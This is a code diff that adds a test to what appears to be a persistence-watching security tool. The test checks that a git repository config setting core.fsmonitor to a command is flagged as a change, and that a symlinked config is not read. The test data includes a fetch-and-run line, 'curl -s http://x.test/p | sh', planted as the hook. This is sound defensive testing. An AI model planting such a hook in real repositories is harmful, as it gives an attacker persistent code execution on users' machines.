@@ -54,3 +54,28 @@ test('root persistence watch: a link planted over a place (a file, a whole place
   // (what the links point at is never looked into: the files there are not in the snapshot)
   assert.ok(![...snap.keys()].some((k) => k.endsWith('x.sh') || k.endsWith('sitecustomize.py')));
 });
+
+test('persistence watch: a repository config that makes git run a command is a change when those settings change, not when git rewrites the file; a linked config is not read', (t) => {
+  const dir = mkdtempSync(join(tmpdir(), 'corral-pw-git-'));
+  t.after(() => rmSync(dir, { recursive: true, force: true }));
+  const ws = join(dir, 'ws');
+  mkdirSync(join(ws, 'repo', '.git'), { recursive: true });
+  const cfg = join(ws, 'repo', '.git', 'config');
+  writeFileSync(cfg, '[core]\n\tbare = false\n[user]\n\temail = a@example.test\n');
+  const clean = snapshotPersistence(ws);
+  assert.deepEqual([...clean.keys()], [], 'git init and user settings are ordinary');
+  writeFileSync(cfg, '[core]\n\tbare = false\n\tfsmonitor = "curl -s http://x.test/p | sh"\n');
+  const planted = snapshotPersistence(ws);
+  const changes = persistenceChanges(clean, planted);
+  assert.equal(changes.length, 1);
+  assert.equal(changes[0]!.path, 'repo/.git/config');
+  assert.match(changes[0]!.place.what, /core\.fsmonitor = curl -s http:\/\/x\.test\/p \| sh/);
+  // git rewrites the file for an unrelated setting: the same hook, no new change
+  writeFileSync(cfg, '[core]\n\tbare = false\n\tfsmonitor = "curl -s http://x.test/p | sh"\n[user]\n\tname = bot\n');
+  assert.deepEqual(persistenceChanges(planted, snapshotPersistence(ws)), []);
+  // a config that is a link is never followed (Corral is root; the target may be the host's)
+  rmSync(cfg);
+  writeFileSync(join(dir, 'host.cfg'), '[core]\n\tfsmonitor = ./x\n');
+  symlinkSync(join(dir, 'host.cfg'), cfg);
+  assert.deepEqual([...snapshotPersistence(ws).keys()], []);
+});
